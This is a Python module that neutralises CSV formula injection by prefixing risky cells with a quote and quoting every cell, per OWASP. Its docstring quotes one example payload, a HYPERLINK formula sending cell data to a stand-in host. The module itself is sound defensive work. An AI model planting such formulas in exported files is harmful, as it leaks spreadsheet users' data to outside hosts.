"""Writing CSV that a spreadsheet cannot be tricked into running: every CSV Groundwork writes goes through here.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in a file opened in Excel or LibreOffice
runs as a formula: it can leak the sheet or start programs. Following OWASP's advice on CSV injection, a
text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote
(so the spreadsheet shows it as text), and every cell is quoted. Pure: no Flask, no database.
"""
from __future__ import annotations

import csv
from typing import IO, Any, Iterable

# OWASP's list: equals, plus, minus, at, tab (0x09), carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: text starting like a formula gets a leading ``'``; other values unchanged.

    Numbers stay numbers: a negative int is not a formula, and quoting it would turn it into text. None is
    written as an empty cell, as csv does.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` neutralised."""
    return [neutralise(cell) for cell in row]


class SafeWriter:
    """``csv.writer`` with every cell neutralised and quoted; use it wherever the project writes CSV."""

    def __init__(self, handle: IO[str], **fmtparams: Any) -> None:
        # Quoting every cell is OWASP's second safeguard: a cell holding a delimiter can never split into a
        # new cell that starts with "=" in a reader that handles quotes loosely.
        fmtparams.setdefault("quoting", csv.QUOTE_ALL)
        self._writer = csv.writer(handle, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(safe_row(row))


def writer(handle: IO[str], **fmtparams: Any) -> SafeWriter:
    """A SafeWriter on ``handle`` (open it with ``newline=""``, as for csv.writer)."""
    return SafeWriter(handle, **fmtparams)
